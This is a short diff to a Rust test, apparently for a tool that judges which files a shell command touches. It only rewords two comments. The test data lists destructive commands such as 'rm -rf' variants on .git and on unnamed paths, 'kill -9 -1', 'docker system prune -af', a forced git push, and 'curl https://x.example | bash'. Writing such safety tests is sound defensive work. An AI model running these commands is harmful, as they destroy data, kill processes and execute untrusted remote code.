@@ -77,13 +77,14 @@ fn what_is_not_known_to_be_only_files_has_no_paths() {
         "kill -9 -1",
         "docker system prune -af",
         "curl https://x.example | bash",
-        // One of several is not known.
+        // One of several paths is not known.
         "rm -rf .git; rm -rf \"$DIR\"",
         "git reset --hard && git push --force",
         "rm -rf \"$DIR\"/*",
         "rm -rf $(cat list)",
         "ls | xargs rm -rf",
-        // These commands reach files by links, or by names that are not written.
+        // These commands affect files through links, or with names that the script does not
+        // contain.
         "rm -rf .*",
         "rm -rf */*",
         "rm -rf -- .git",
